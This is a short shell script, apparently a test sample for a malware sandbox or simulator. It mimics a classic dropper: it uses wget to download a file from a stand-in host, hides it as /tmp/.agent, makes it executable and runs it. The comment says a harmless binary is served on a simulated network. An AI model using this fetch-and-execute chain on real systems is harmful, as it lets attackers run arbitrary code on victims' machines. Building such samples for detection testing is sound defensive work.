#!/bin/sh
# Malicious (network): the classic dropper chain. Resolves a name, downloads a binary-looking file
# over HTTP, makes it executable and runs it (T1105, T1204). On the simulated network the name
# resolves to the simulator, which serves a harmless ELF, so the chain runs to its end.
url="http://cdn.update-check.example.net/bins/agent.x86_64"
cd /tmp || exit 1
if wget -q -O /tmp/.agent "$url"; then
  chmod +x /tmp/.agent
  /tmp/.agent
  echo "net-dropper: payload ran ($?)"
else
  echo "net-dropper: download failed" >&2
fi
